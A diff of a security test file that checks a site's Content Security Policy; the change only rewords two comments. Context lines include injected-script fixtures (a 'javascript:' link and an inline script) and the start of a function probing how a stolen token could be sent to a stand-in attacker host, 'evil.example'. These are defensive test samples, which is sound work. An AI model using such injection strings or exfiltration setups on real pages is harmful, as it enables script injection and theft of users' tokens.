@@ -57,7 +57,7 @@ test('pages may load from and connect to this server only, and run only scripts 
     expect(rules.get('report-uri'), address).toBe('report-uri /api/csp-reports')
     const isBackOffice = /^\/(admin|login)/.test(address)
     expect(rules.get('style-src')?.includes('unsafe-inline'), address).toBe(isBackOffice)
-    // No page has its own script: only the data differs.
+    // Pages differ only in their data, not in their scripts.
     const scripts = (await answer.text()).match(/<script(?![^>]*application\/json)[^>]*>/g)
     expect(scripts, address).toHaveLength(4)
   }
@@ -174,7 +174,7 @@ const FOREIGN =
   '<a href="javascript:window.hacked=5" id="foreign">x</a>' +
   '<script>window.__reactRouterContext.streamController.enqueue("[1]");</script>'
 
-/** Results of the ways in which a stolen token could leave the page. */
+/** The outcomes of several ways to send a stolen token elsewhere. */
 function outcomes(page: Page) {
   return page.evaluate(async () => {
     const outside = 'https://evil.example/'
